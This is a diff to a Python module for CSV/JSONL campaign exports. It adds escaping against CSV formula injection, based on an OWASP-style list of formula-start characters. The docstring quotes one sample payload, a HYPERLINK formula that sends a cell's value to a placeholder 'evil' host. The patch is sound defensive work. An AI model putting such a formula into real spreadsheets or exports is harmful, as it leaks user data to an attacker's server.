@@ -1,12 +1,17 @@
 """Campaign exports (CSV / JSONL) for people and spreadsheets: each ``sent_at`` epoch gets an ISO 8601 twin
 with the UTC offset of the sending account's timezone (``2026-11-11T09:00:02.125+08:00``), so a reader
-needs no conversion and a program keeps the exact epoch."""
+needs no conversion and a program keeps the exact epoch.
+
+CSV is opened by spreadsheets, which run a cell that starts like a formula: a vendor's error
+``=HYPERLINK("http://evil…"&A2, …)`` would. So a CSV cell starting with ``=``, ``+``, ``-``, ``@``, tab or
+CR gets a leading ``'`` (OWASP, "CSV Injection"), unless it is a plain number (``-5``); JSONL stays exact."""
 
 from __future__ import annotations
 
 import csv
 import io
 import json
+import re
 from collections.abc import Callable, Iterator
 from datetime import datetime
 from functools import lru_cache
@@ -18,6 +23,18 @@ from worker.store.ledger import RESULT_FIELDS
 
 #: The export's CSV columns: the delivery's, with ``sent_at_iso`` right after ``sent_at``.
 EXPORT_COLUMNS = [c for name in DELIVERY_COLUMNS for c in ((name, "sent_at_iso") if name == "sent_at" else (name,))]
+
+
+#: What a spreadsheet reads as the start of a formula (OWASP's list).
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+_PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")
+
+
+def neutralised(value: Any) -> Any:
+    """A CSV cell a spreadsheet will not run: a leading ``'`` before a formula start (not before a number)."""
+    if isinstance(value, str) and value.startswith(FORMULA_START) and not _PLAIN_NUMBER.fullmatch(value):
+        return "'" + value
+    return value
 
 
 def iso_time(epoch: float | None, timezone: str) -> str | None:
@@ -61,12 +78,12 @@ def export_deliveries(
                 parts = row.pop("parts") or []
                 result = row.pop("result") or {}
                 if not parts:
-                    writer.writerow({**row, **result})
+                    writer.writerow({name: neutralised(value) for name, value in {**row, **result}.items()})
                 # a sequence: one row per part (what went to the recipient, message by message), its own ids
                 for part in parts:
                     ids = {name: part.get(name) for name in RESULT_FIELDS}
                     cells = {"part": part["index"] + 1, "part_kind": part.get("kind"), "part_status": part["status"]}
-                    writer.writerow({**row, **ids, **cells})
+                    writer.writerow({name: neutralised(value) for name, value in {**row, **ids, **cells}.items()})
             yield buffer.getvalue()
         else:
             yield "".join(json.dumps(with_iso(item), ensure_ascii=False) + "\n" for item in items)
